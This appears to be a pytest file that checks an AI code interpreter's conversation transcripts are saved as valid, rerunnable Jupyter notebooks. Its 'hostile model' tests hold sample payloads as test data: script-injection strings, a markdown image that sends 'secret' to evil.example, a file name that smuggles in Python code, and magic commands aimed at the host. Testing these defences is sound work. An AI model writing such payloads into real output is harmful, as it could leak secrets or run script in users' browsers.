"""A conversation saved as a notebook: valid, harmless to open, and it runs again."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path

import nbformat
import pytest
from nbclient import NotebookClient

from sandbox_kernel.ai import Interpreter, Transcript
from sandbox_kernel.engine import DependencyReport, Display, Engine, Result, RunError, Session
from sandbox_kernel.errors import FileRefused
from sandbox_kernel.models import Model
from tests.support.agents import PNG, SHOW_PIXEL
from tests.support.model_server import call, calls, model_server

__all__ = ["model_server"]


def result(
    stdout: str = "", *, displays: list[Display] | None = None, error: RunError | None = None
) -> Result:
    shown = displays or []
    return Result(
        error is None, stdout, "", int(error is not None), error, "", shown, [], None,
        DependencyReport(), 0.1,
    )  # fmt: skip


def sources(transcript: Transcript) -> list[str]:
    return [cell["source"] for cell in transcript.notebook()["cells"]]


@pytest.fixture
async def session() -> AsyncIterator[Session]:
    async with Engine("bubblewrap") as engine:
        yield await engine.create_session("python")


async def test_a_conversation_is_saved_and_runs_again(session, model_server, tmp_path):
    model_server.script(
        calls(call("run_code", code="rows = open('in/data.txt').read().split(); len(rows)")),
        calls(call("run_code", code="1/0")),
        calls(call("run_code", code=f"print(rows[0]){SHOW_PIXEL}")),
        calls(call("run_code", code="echo $((6*7)) | tee n.txt", language="bash")),
        "There are **two** rows.",
        "You are welcome.",
    )
    async with Model(model_server.model, url=model_server.base_url, key=model_server.key) as model:
        interpreter = Interpreter(session, model, languages=["bash"])
        await interpreter.give({"in/data.txt": "first second"})
        found = await interpreter.ask("How many rows?")
        await interpreter.run("len(open('n.txt').read())")
        await interpreter.ask("Thanks!")
    found.save(tmp_path / "talk")
    saved = nbformat.read(tmp_path / "talk.ipynb", as_version=4)
    nbformat.validate(saved)
    assert saved.metadata.kernelspec.name == "sandbox-python"
    assert model_server.key not in (tmp_path / "talk.ipynb").read_text()
    words = [cell.source for cell in saved.cells if cell.cell_type == "markdown"]
    assert words == [
        "**Prompt**\n\nHow many rows?",
        "There are **two** rows.",
        "**Prompt**\n\nThanks!",
        "You are welcome.",
    ]
    before = code_cells(saved)
    NotebookClient(saved, timeout=100, kernel_name="sandbox-python").execute(cwd=str(tmp_path))
    after = code_cells(saved)
    assert before[-1].outputs[0].data["text/plain"] == "3"
    assert [kinds(cell) for cell in after] == [kinds(cell) for cell in before]
    assert texts(after) == texts(before)


def code_cells(notebook: nbformat.NotebookNode) -> list[nbformat.NotebookNode]:
    return [cell for cell in notebook.cells if cell.cell_type == "code"]


def kinds(cell: nbformat.NotebookNode) -> list[str]:
    """What a cell showed. Streams are saved first: a result doesn't know what came between."""
    return sorted(output.get("ename", output.output_type) for output in cell.outputs)


def texts(cells: list[nbformat.NotebookNode]) -> list[str]:
    outputs = [output for cell in cells for output in cell.outputs]
    return [output.text for output in outputs if output.output_type == "stream"]


# --- shape ----------------------------------------------------------------------------------


def test_an_empty_conversation_is_a_notebook():
    nbformat.validate(nbformat.from_dict(Transcript().notebook()))


def test_every_kind_of_output_is_valid():
    transcript = Transcript("python")
    shown = [
        Display({"image/png": PNG, "text/plain": "<Image>"}, {"image/png": {"width": 5}}),
        Display({"application/json": {"a": [1]}}, {}),
        Display({"text/plain": "42"}, {}, is_result=True),
    ]
    transcript.asked("Show it")
    transcript.ran("show()", result("out\n", displays=shown))
    transcript.ran("1/0", result(error=RunError("ZeroDivisionError", "division by zero", ["tb"])))
    transcript.answered("")
    notebook = transcript.notebook()
    nbformat.validate(nbformat.from_dict(notebook))
    _, cell, failed = notebook["cells"]
    kinds = ["stream", "display_data", "display_data", "execute_result"]
    assert [output["output_type"] for output in cell["outputs"]] == kinds
    assert failed["metadata"] == {"tags": ["raises-exception"]}
    assert [cell["execution_count"], failed["execution_count"]] == [1, 2]


def test_an_update_takes_the_place_of_what_it_replaces():
    transcript = Transcript()
    bar = [
        Display({"text/plain": f"{n} %"}, {}, is_update=n > 0, display_id="bar")
        for n in (0, 50, 100)
    ]
    transcript.ran("run()", result(displays=[*bar, Display({"text/plain": "end"}, {})]))
    (cell,) = transcript.notebook()["cells"]
    assert [output["data"]["text/plain"] for output in cell["outputs"]] == ["100 %", "end"]


def test_another_language_is_a_cell_of_its_own():
    transcript = Transcript("bash")
    transcript.ran("ls", result())
    transcript.ran("print(1)", result(), "py")
    assert sources(transcript) == ["ls", "%%python\nprint(1)"]
    assert transcript.notebook()["metadata"]["kernelspec"]["name"] == "sandbox-bash"
    assert transcript.notebook()["metadata"]["kernelspec"]["language"] == "bash"


def test_a_file_too_large_is_named_and_not_carried():
    transcript = Transcript()
    transcript.gave({"big`.bin": bytes(2 * 1024**2), "small.txt": "x"})
    named, carried = sources(transcript)
    assert "`big.bin`" in named
    assert "'small.txt'" in carried


# --- what a hostile model writes ------------------------------------------------------------


@pytest.mark.parametrize(
    "words",
    [
        "<script>alert(1)</script>",
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x]: https://evil.example\n![a][x]",
        "<img src=x onerror=alert(1)>",
        "text\n```\n<img src=x>\n```\n<b onclick=1>",
    ],
)
def test_words_that_could_load_or_run_something_are_shown_as_characters(words):
    transcript = Transcript()
    transcript.answered(words)
    transcript.asked(words)
    answer, prompt = sources(transcript)
    assert all(line.startswith("    ") for line in answer.splitlines())
    assert prompt == f"**Prompt**\n\n{answer}"


def test_plain_words_stay_markdown():
    transcript = Transcript()
    transcript.answered("It is **42**, see [here](https://example.org).")
    assert sources(transcript) == ["It is **42**, see [here](https://example.org)."]


@pytest.mark.parametrize(
    "code",
    ["%sandbox get x", "# a\n\n  %sandbox put y", "%dependencies z", "%%ask do it", "%%bash\nls"],
)
def test_a_line_that_would_be_for_the_host_stays_inside(code):
    transcript = Transcript()
    transcript.ran(code, result())
    assert sources(transcript) == [f"%%python\n{code}"]


def test_a_name_with_quotes_stays_a_string():
    transcript = Transcript()
    transcript.gave({"a'+__import__('os').name+'.txt": "x"})
    (source,) = sources(transcript)
    assert compile(source, "cell", "exec")
    assert """Path("a'+__import__('os').name+'.txt")""" in source


# --- saving ---------------------------------------------------------------------------------


def test_a_notebook_that_exists_is_replaced_only_when_told(tmp_path: Path):
    path = tmp_path / "a.ipynb"
    path.write_text("mine")
    with pytest.raises(FileRefused):
        Transcript().save(path)
    assert path.read_text() == "mine"
    assert Transcript().save(path, allow_overwrite=True) == path
    assert json.loads(path.read_text())["cells"] == []


def test_a_directory_that_is_not_there_is_told(tmp_path: Path):
    with pytest.raises(FileRefused, match="Make it first"):
        Transcript().save(tmp_path / "none" / "a.ipynb")
